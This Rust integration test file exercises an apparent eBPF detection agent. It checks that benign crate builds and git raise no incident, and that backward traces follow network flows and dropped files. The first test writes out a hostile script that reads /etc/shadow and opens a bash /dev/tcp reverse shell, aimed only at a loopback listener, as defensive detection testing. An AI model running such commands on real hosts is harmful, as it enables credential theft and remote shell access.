//! `causeway up` end to end, on the real agent: an attack-like chain raises an incident with
//! the right techniques and causal chain; ordinary work (a crate build, git) raises none; and
//! a backward trace crosses process trees through a loopback flow and a dropped file.

mod support;

use serde_json::Value;
use std::process::{Command, Stdio};
use std::time::Duration;
use support::up::{free_port, get, start_up, try_wait, wait_for, Up};
use support::{bpf_available, marker};

fn exec_of(up: &Up, m: &str) -> Value {
    wait_for(&format!("exec {m}"), 60, || {
        let evs = get(
            &up.base,
            &format!("/api/v1/events?kind=process.exec&q={m}&limit=50"),
        );
        evs.as_array()?
            .iter()
            .find(|e| {
                e["process"]["argv"]
                    .as_array()
                    .is_some_and(|a| a.iter().any(|x| x == m))
            })
            .cloned()
    })
}

#[test]
fn attack_chain_raises_an_incident_and_benign_work_does_not() {
    if !bpf_available("attack_chain_raises_an_incident_and_benign_work_does_not") {
        return;
    }
    let up = start_up();
    let work = tempfile::tempdir().expect("tempdir");

    // Benign: a small crate built from scratch, and git operations.
    let benign = marker("benign");
    let crate_dir = work.path().join("hello");
    let script = format!(
        "cargo new --quiet --vcs git {d} && cd {d} && cargo build --quiet --offline && \
         git add -A && git -c user.name=t -c user.email=t@t commit --quiet -m init && git log --oneline >/dev/null",
        d = crate_dir.display()
    );
    let st = Command::new("bash")
        .arg("-c")
        .arg(&script)
        .arg(&benign)
        .status()
        .expect("benign");
    assert!(st.success());
    let benign_root = exec_of(&up, &benign);

    // Attack-like: a copied shell in a temp dir reads /etc/shadow and opens a reverse shell
    // to a loopback listener this test owns.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let attack = marker("attack");
    let x = work.path().join(".x");
    let script = format!(
        "cp /bin/sh {x}; chmod +x {x}; {x} -c 'cat /etc/shadow >/dev/null; bash -c \"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 <&-\"' {attack}",
        x = x.display()
    );
    let mut child = Command::new("bash")
        .arg("-c")
        .arg(&script)
        .arg(&attack)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("attack");
    let (conn, _) = listener.accept().expect("reverse shell connects");
    drop(conn);
    let _ = child.wait();
    let root = exec_of(&up, &attack);
    let root_pid = root["process"]["pid"].as_u64().expect("pid");

    let incident = try_wait(60, || {
        let list = get(&up.base, "/api/v1/incidents?limit=100");
        list["items"]
            .as_array()?
            .iter()
            .find(|i| {
                i["techniques"]
                    .as_array()
                    .is_some_and(|t| t.iter().any(|x| x == "T1003.008"))
                    && i["techniques"].as_array().is_some_and(|t| {
                        t.iter()
                            .any(|x| x.as_str().is_some_and(|s| s.starts_with("T1059")))
                    })
            })
            .cloned()
    })
    .unwrap_or_else(|| {
        panic!(
            "no incident with T1003.008 and T1059: {}",
            get(&up.base, "/api/v1/incidents?limit=100")
        )
    });
    let id = incident["id"].as_str().expect("id");
    // The trace comes from the causal graph, which applies events after its reorder horizon
    // (5 s while other activity keeps arriving): wait until the flagged acts are in it.
    let detail = try_wait(30, || {
        let d = get(&up.base, &format!("/api/v1/incidents/{id}"));
        let nodes = d["trace"]["nodes"].as_array()?;
        let complete = nodes.iter().any(|n| {
            n["flagged"] == true
                && n["data"]["argv"]
                    .as_array()
                    .is_some_and(|a| a.iter().any(|x| x == "/etc/shadow"))
        }) && nodes
            .iter()
            .any(|n| n["data"]["pid"].as_u64() == Some(root_pid));
        complete.then_some(d)
    })
    .unwrap_or_else(|| get(&up.base, &format!("/api/v1/incidents/{id}")));
    let pids: Vec<u64> = detail["processes"]
        .as_array()
        .expect("processes")
        .iter()
        .filter_map(|p| p["pid"].as_u64())
        .collect();
    assert!(!pids.is_empty());
    // The chain: flagged nodes include the shadow read and the reverse shell, and the trace
    // reaches back to the attack's root shell.
    let nodes = detail["trace"]["nodes"].as_array().expect("nodes");
    let flagged: Vec<&Value> = nodes.iter().filter(|n| n["flagged"] == true).collect();
    assert!(flagged
        .iter()
        .any(|n| n["rules"].as_array().is_some_and(|r| !r.is_empty())));
    assert!(
        flagged.iter().any(|n| n["data"]["argv"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x == "/etc/shadow"))),
        "shadow reader flagged"
    );
    assert!(
        nodes
            .iter()
            .any(|n| n["data"]["pid"].as_u64() == Some(root_pid)),
        "root of the attack in the trace"
    );
    assert!(!detail["trace"]["edges"]
        .as_array()
        .expect("edges")
        .is_empty());

    // Nothing of the benign work is in any incident: no flagged node is one of its processes
    // (the benign root and everything it caused).
    let benign_id = benign_root["process"]["id"]
        .as_str()
        .expect("id")
        .to_string();
    let forward = get(
        &up.base,
        &format!("/api/v1/processes/{benign_id}/trace?direction=forward&depth=64"),
    );
    let mut benign_ids: std::collections::BTreeSet<String> = forward["nodes"]
        .as_array()
        .expect("nodes")
        .iter()
        .filter_map(|n| n["data"]["id"].as_str().map(str::to_string))
        .collect();
    benign_ids.insert(benign_id);
    assert!(
        benign_ids.len() > 5,
        "the build and git ran processes: {benign_ids:?}"
    );
    let list = get(&up.base, "/api/v1/incidents?limit=1000");
    for i in list["items"].as_array().expect("items") {
        let d = get(
            &up.base,
            &format!("/api/v1/incidents/{}", i["id"].as_str().unwrap_or("")),
        );
        for f in d["flags"].as_array().into_iter().flatten() {
            let pid = f["process_id"].as_str().unwrap_or("");
            assert!(!benign_ids.contains(pid), "benign work flagged: {f}");
        }
    }
}

#[test]
fn backward_trace_crosses_trees_through_a_flow_and_a_dropped_file() {
    if !bpf_available("backward_trace_crosses_trees_through_a_flow_and_a_dropped_file") {
        return;
    }
    let up = start_up();
    let work = tempfile::tempdir().expect("tempdir");
    let payload = work.path().join("payload.sh");
    let port = free_port();
    let (sm, cm, xm) = (marker("server"), marker("client"), marker("third"));
    // Tree B: a server that accepts one connection, then drops an executable file.
    let server_py = format!(
        "import socket,os\ns=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n\
         s.bind(('127.0.0.1',{port}));s.listen(1)\nc,_=s.accept();c.recv(16);c.close()\n\
         open({p:?},'w').write('#!/bin/sh\\nexit 0\\n');os.chmod({p:?},0o755)\n",
        p = payload.display().to_string()
    );
    let mut server = Command::new("bash")
        .arg("-c")
        .arg("exec python3 -c \"$1\"")
        .arg(&sm)
        .arg(&server_py)
        .spawn()
        .expect("server");
    std::thread::sleep(Duration::from_millis(500));
    // Tree A: bash -c -> python3 that connects.
    let client_py = format!(
        "import socket\ns=socket.create_connection(('127.0.0.1',{port}));s.send(b'hi');s.close()\n"
    );
    let st = Command::new("bash")
        .arg("-c")
        .arg("python3 -c \"$1\"; true")
        .arg(&cm)
        .arg(&client_py)
        .status()
        .expect("client");
    assert!(st.success());
    assert!(server.wait().expect("server").success());
    // Tree C: a third process executes the dropped file.
    let st = Command::new(&payload).arg(&xm).status().expect("payload");
    assert!(st.success());

    let third = exec_of(&up, &xm);
    let third_id = third["process"]["id"].as_str().expect("id").to_string();
    let client_root = exec_of(&up, &cm);
    let client_bash = client_root["process"]["id"]
        .as_str()
        .expect("id")
        .to_string();
    let trace = wait_for("backward trace across the flow", 60, || {
        let t = get(
            &up.base,
            &format!("/api/v1/processes/{third_id}/trace?direction=backward&depth=12"),
        );
        let edges = t["edges"].as_array()?;
        let ok = edges
            .iter()
            .any(|e| e["kind"] == "executed_file_written_by")
            && edges.iter().any(|e| e["kind"] == "connected")
            && t["nodes"]
                .as_array()?
                .iter()
                .any(|n| n["data"]["id"] == client_bash.as_str());
        ok.then_some(t)
    });
    // The chain: client bash -> client python -connected-> server python -wrote-> payload,
    // executed by the third process.
    let nodes = trace["nodes"].as_array().expect("nodes");
    let pythons: Vec<&Value> = nodes
        .iter()
        .filter(|n| {
            n["data"]["argv"][0]
                .as_str()
                .is_some_and(|a| a.ends_with("python3"))
        })
        .collect();
    // Both ends of the flow: the client (its script connects) and the server (it listens).
    assert!(
        pythons
            .iter()
            .any(|n| n["data"]["argv"].to_string().contains("create_connection")),
        "client python"
    );
    assert!(
        pythons
            .iter()
            .any(|n| n["data"]["argv"].to_string().contains("s.listen")),
        "server python"
    );
    assert!(nodes.iter().any(|n| n["label"]
        .as_str()
        .is_some_and(|l| l.contains("payload.sh"))));
}
